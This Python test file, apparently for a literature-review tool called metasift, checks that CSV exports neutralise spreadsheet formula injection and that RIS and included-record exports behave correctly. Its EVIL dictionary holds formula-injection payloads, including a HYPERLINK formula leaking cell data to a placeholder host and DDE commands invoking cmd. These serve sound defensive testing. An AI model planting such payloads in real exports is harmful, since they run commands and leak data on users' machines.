"""metasift export (#18): CSV cells a spreadsheet would run are neutralised, RIS starts at TY, --included."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from metasift.records import Record
from metasift.store import Store

EVIL = {
    "equals": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def _add(project: Path, records: list[Record]) -> list[int]:
    """Store records as one import (no parser involved) and return their ids in order."""
    store = Store.open(project)
    try:
        store.add_import(path=project / "search.ris", sha256="0" * 64, source="Test", fmt="ris", layout=None,
                         encoding="utf-8", warnings=[], records=records)
        return [row.id for row in store.records_table()]
    finally:
        store.close()


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_export_prefixes_every_formula_like_title_and_author_with_a_quote(project: Path, cli) -> None:
    _add(project, [Record(title=v, authors=[v, "Plain, A."], year=2020, journal=v) for v in EVIL.values()]
         + [Record(title="Exercise for depression: a trial", authors=["Smith, J."], year=2019, pages="-5")])
    res = cli("export", "--format", "csv", "--project", project)
    assert res.exit_code == 0, res.stderr
    *rows, plain = _csv_rows(res.stdout)
    assert [r["title"] for r in rows] == ["'" + v for v in EVIL.values()]  # embedded quotes round-trip
    assert [r["journal"] for r in rows] == ["'" + v for v in EVIL.values()]
    assert all(r["authors"].startswith("'") for r in rows)
    assert all(r["year"] == "2020" for r in rows)
    assert plain["title"] == "Exercise for depression: a trial" and plain["authors"] == "Smith, J."
    assert plain["pages"] == "-5"  # a plain number is read as a number, never as a formula


def test_a_carriage_return_inside_a_title_cannot_start_an_unneutralised_row(project: Path, cli) -> None:
    title = "Harmless start\r=cmd|' /C calc'!A0"
    _add(project, [Record(title=title, year=2020), Record(title="Next", year=2021)])
    rows = _csv_rows(cli("export", "--project", project).stdout)
    assert [r["title"] for r in rows] == [title, "Next"]  # quoted: still one cell of one row


def test_csvsafe_neutralises_text_only_and_keeps_negative_numbers_numbers() -> None:
    from metasift.csvsafe import is_formula_like, safe_cell, safe_row

    assert safe_cell(-0.37) == -0.37 and safe_cell(-3) == -3 and safe_cell(None) is None
    for number in ("-0.37", "+1", "-1e-3", "-.5"):
        assert safe_cell(number) == number
    for text in EVIL.values():
        assert safe_cell(text) == "'" + text and is_formula_like(text)
    assert safe_cell("-0.37+1") == "'-0.37+1"
    assert safe_row({"study": "=1+1", "yi": -0.37}) == {"study": "'=1+1", "yi": -0.37}


def test_ris_export_starts_each_reference_at_its_ty_line(project: Path, cli) -> None:
    _add(project, [Record(title="First", authors=["A, B."], year=2020), Record(title="Second", year=2021)])
    res = cli("export", "--format", "ris", "--project", project)
    assert res.exit_code == 0, res.stderr
    lines = [line for line in res.stdout.splitlines() if line.strip()]
    assert lines[0].startswith("TY  - ")
    assert not [line for line in lines if re.fullmatch(r"\d+\.", line.strip())]
    assert sum(line.startswith("TY  - ") for line in lines) == sum(line.startswith("ER  -") for line in lines) == 2


def _decide(project: Path, record_id: int, stage: str, *labels: tuple[str, str, str]) -> None:
    store = Store.open(project)
    try:
        for kind, who, label in labels:
            store.add_decision(record_id=record_id, stage=stage, decider_kind=kind, decider=who, label=label)
    finally:
        store.close()


def test_export_included_writes_only_records_settled_as_included_by_the_protocol(project: Path, cli) -> None:
    # the starter protocol wants two humans per record (humans_per_record = 2)
    names = ["both include", "one include", "include vs exclude", "both exclude", "both maybe", "model include",
             "consensus include", "undecided"]
    ids = dict(zip(names, _add(project, [Record(title=n, year=2020) for n in names])))
    ta = "title_abstract"
    _decide(project, ids["both include"], ta, ("human", "alice", "include"), ("human", "bob", "include"))
    _decide(project, ids["one include"], ta, ("human", "alice", "include"))
    _decide(project, ids["include vs exclude"], ta, ("human", "alice", "include"), ("human", "bob", "exclude"))
    _decide(project, ids["both exclude"], ta, ("human", "alice", "exclude"), ("human", "bob", "exclude"))
    _decide(project, ids["both maybe"], ta, ("human", "alice", "maybe"), ("human", "bob", "maybe"))
    _decide(project, ids["model include"], ta, ("model", "gpt", "include"))
    _decide(project, ids["consensus include"], ta, ("human", "alice", "include"), ("human", "bob", "exclude"),
            ("consensus", "carol", "include"))
    res = cli("export", "--included", "--project", project)
    assert res.exit_code == 0, res.stderr
    assert [r["title"] for r in _csv_rows(res.stdout)] == ["both include", "consensus include"]
    assert cli("status", "--json", "--project", project).json()["stages"]["title_abstract"]["included"] == 2
    assert len(_csv_rows(cli("export", "--project", project).stdout)) == len(names)  # without: every record
    ris = cli("export", "--included", "--format", "ris", "--project", project).stdout
    assert ris.count("TY  - ") == 2 and "TI  - one include" not in ris


def test_export_included_at_full_text_uses_full_text_decisions(project: Path, cli) -> None:
    ids = _add(project, [Record(title=t, year=2020) for t in ("kept", "dropped at full text")])
    for rid in ids:
        _decide(project, rid, "title_abstract", ("human", "alice", "include"), ("human", "bob", "include"))
    _decide(project, ids[0], "full_text", ("human", "alice", "include"), ("human", "bob", "include"))
    _decide(project, ids[1], "full_text", ("human", "alice", "exclude"), ("human", "bob", "exclude"))
    res = cli("export", "--included", "--stage", "full_text", "--format", "jsonl", "--project", project)
    assert res.exit_code == 0, res.stderr
    assert [line for line in res.stdout.splitlines() if line] and '"kept"' in res.stdout
    assert "dropped at full text" not in res.stdout


def test_export_included_is_for_records_not_decisions(project: Path, cli) -> None:
    res = cli("export", "--included", "--what", "decisions", "--project", project)
    assert res.exit_code == 1 and "--included" in res.stderr
